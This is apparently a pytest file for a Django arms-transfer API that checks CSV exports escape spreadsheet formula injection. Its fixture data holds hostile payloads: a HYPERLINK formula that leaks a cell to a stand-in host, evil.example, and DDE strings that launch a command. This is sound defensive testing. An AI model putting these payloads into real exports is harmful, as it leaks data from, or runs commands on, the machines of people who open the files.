"""CSV exports never hand a spreadsheet a formula to run (OWASP "CSV Injection"): text
that starts with = + - @ tab or CR is written with a leading apostrophe; numbers are
left alone. Every resource's export, the Python and the COPY path alike."""

import csv
import datetime
import io

import pytest
from django.db import connection
from rest_framework.test import APIClient

from transfers.models import Actor, Claim, Contract, Delivery, Source, Transfer, WeaponSystem

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "notes": "+cmd|' /C calc'!A0",
    "comments": "=1+1",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "delivery": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


@pytest.fixture
def hostile(db):
    rus = Actor.objects.create(code="RUS", name="Russia")
    irn = Actor.objects.create(code="IRN", name="=Iran")
    system = WeaponSystem.objects.create(slug="tor-m1", designation="Tor-M1", category="air-defence")
    contract = Contract.objects.create(
        reference="c1",
        title=FORMULAS["title"],
        notes=FORMULAS["notes"],
        supplier=rus,
        recipient=irn,
        value_amount=700_000_000,
        value_currency="USD",
    )
    transfer = Transfer.objects.create(
        contract=contract, system=system, quantity_ordered=29, comments=FORMULAS["comments"]
    )
    delivery = Delivery.objects.create(
        transfer=transfer, date=datetime.date(2006, 1, 1), quantity=4, notes=FORMULAS["delivery"]
    )
    source = Source.objects.create(key="s", title=FORMULAS["tab"], publisher="@wire")
    Claim.objects.create(source=source, contract=contract, summary=FORMULAS["summary"])
    return {"transfer": transfer, "delivery": delivery}


def rows(path, settings, copy=False):
    settings.API_CSV_COPY = copy
    response = APIClient().get(path, {"format": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return body, list(csv.DictReader(io.StringIO(body)))


def cells(records):
    return [value for record in records for value in record.values()]


@pytest.mark.parametrize(
    "path", ["/api/contracts/", "/api/transfers/", "/api/deliveries/", "/api/sources/", "/api/claims/", "/api/actors/"]
)
def test_no_cell_starts_a_formula(path, hostile, settings):
    _, records = rows(path, settings)
    assert records
    for value in cells(records):
        if value[:1] in ("=", "+", "@", "\t", "\r"):
            pytest.fail(f"{path}: a formula reaches the spreadsheet: {value!r}")
        if value.startswith("-"):
            float(value)  # only numbers may start with a minus
    escaped = [value for value in cells(records) if value.startswith("'")]
    assert escaped, path
    # The text is kept, after its apostrophe.
    assert all(value[1:] in (*FORMULAS.values(), "=Iran", "@wire") for value in escaped), escaped


def test_numbers_and_dates_are_untouched(hostile, settings):
    _, records = rows("/api/transfers/", settings)
    record = records[0]
    assert record["quantity_ordered"] == "29" and record["quantity_remaining"] == "25"
    assert record["contract.value_amount"] == "700000000.00"
    assert record["comments"] == "'=1+1" and record["recipient.name"] == "'=Iran"


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
def test_the_database_written_csv_escapes_exactly_as_python(hostile, settings):
    copied, _ = rows("/api/transfers/", settings, copy=True)
    written, _ = rows("/api/transfers/", settings, copy=False)
    assert copied == written
    assert "'=1+1" in copied
